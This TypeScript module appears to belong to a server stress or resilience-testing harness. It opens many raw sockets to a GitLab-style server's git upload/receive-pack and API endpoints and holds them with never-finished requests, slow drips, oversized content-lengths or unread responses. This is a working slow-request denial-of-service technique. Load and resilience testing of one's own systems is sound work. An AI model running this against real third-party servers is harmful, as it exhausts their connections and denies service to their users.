import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { addressOf, type Field, type Raid } from './raid.js';

const linesOf = (first: string, headers: Readonly<Record<string, string>>): string =>
  [
    `${first} HTTP/1.1`,
    'Host: attacked',
    ...Object.entries(headers).map(([name, value]) => `${name}: ${value}`),
    '',
  ].join('\r\n');

interface Opening {
  text: string;
  /** What is sent again and again, a second apart. */
  drip: string;
  /** Whether the answer is never read. */
  deaf?: boolean;
}

const want = (sha: string): string => `0032want ${sha}\n`;

/** Requests that are begun and never end, or whose answers nobody reads. */
function opening(field: Field): Opening {
  const { scene, draws } = field;
  const token = draws.one(scene.tokens);
  const basic = { authorization: `Basic ${Buffer.from(`x:${token}`).toString('base64')}` };
  const known = { 'private-token': token };
  const from = addressOf(field) as Record<string, string>;
  const at = `/${scene.project.path}.git`;
  const api = `/api/v4/projects/${scene.project.id}`;
  const fetchType = { 'content-type': 'application/x-git-upload-pack-request' };
  const pushType = { 'content-type': 'application/x-git-receive-pack-request' };
  const announced = (bytes: number): Record<string, string> => ({ 'content-length': String(bytes) });
  const chunked = { 'transfer-encoding': 'chunked' };
  const json = { 'content-type': 'application/json' };
  const begin = (first: string, ...headers: Readonly<Record<string, string>>[]): string =>
    `${linesOf(first, Object.assign({}, from, ...headers))}\r\n`;
  return draws.one<() => Opening>([
    () => ({
      text: begin(`POST ${at}/git-upload-pack`, fetchType, announced(5000)) + want(scene.sha),
      drip: '',
    }),
    () => ({
      text: begin(`POST ${at}/git-upload-pack`, fetchType, announced(5000), basic) + want(scene.sha),
      drip: '0',
    }),
    () => ({ text: begin(`POST ${at}/git-upload-pack`, fetchType, chunked), drip: '1\r\n0\r\n' }),
    () => ({ text: begin(`POST ${at}/git-receive-pack`, pushType, announced(900_000)), drip: '0' }),
    () => ({
      text: `${begin(`POST ${at}/git-receive-pack`, pushType, announced(900_000), basic)}${'0'.repeat(300_000)}`,
      drip: '0',
    }),
    () => ({
      text: `${begin(`PUT /api/v4/user/status`, json, announced(5000), known)}{"message":"`,
      drip: 'x',
    }),
    () => ({
      text: `${begin(`POST ${api}/uploads`, known, announced(50_000_000), {
        'content-type': 'multipart/form-data; boundary=x',
      })}--x\r\ncontent-disposition: form-data; name="file"; filename="a"\r\n\r\n`,
      drip: 'x',
    }),
    () => ({ text: linesOf('GET /api/v4/version', from), drip: 'x-more: 1\r\n' }),
    () => ({ text: '', drip: '' }),
    () => ({ text: 'GET /api', drip: 'x' }),
    () => ({ text: begin(`GET ${api}/repository/blobs/${scene.blobs.large}/raw`), drip: '', deaf: true }),
    () => ({ text: begin(`GET ${api}/repository/files/large.bin?ref=main`), drip: '', deaf: true }),
    () => ({ text: begin(`GET ${api}/repository/archive.tar`, known), drip: '', deaf: true }),
    () => ({
      text: `${begin(`POST ${at}/git-upload-pack`, fetchType, announced(63))}${want(scene.sha)}00000009done\n`,
      drip: '',
      deaf: true,
    }),
  ])();
}

function hold({ url, record }: Field, { text, drip, deaf }: Opening): Socket {
  const { hostname, port } = new URL(url);
  record.statuses.set('held', (record.statuses.get('held') ?? 0) + 1);
  const socket = connect(Number(port), hostname, () => socket.write(text));
  if (deaf) socket.pause();
  else socket.resume();
  socket.on('error', () => undefined);
  const timer = setInterval(() => drip !== '' && socket.write(drip), 1000);
  socket.on('close', () => clearInterval(timer));
  return socket;
}

/** Sockets that hold something for long: a request that is begun, or an answer that is not read. */
export const held: Raid = {
  name: 'held',
  lanes: 1,
  pause: 3000,
  async strike(field) {
    const { draws } = field;
    // Sometimes all are of one kind, which is worse than a mixture.
    const same = draws.percent(50) ? opening(field) : null;
    const count = draws.between(20, 120);
    const sockets = Array.from({ length: count }, () => hold(field, same ?? opening(field)));
    const until = Date.now() + draws.between(3000, 20_000);
    while (Date.now() < until && !field.isOver()) await pause(100);
    for (const socket of sockets) socket.destroy();
  },
};
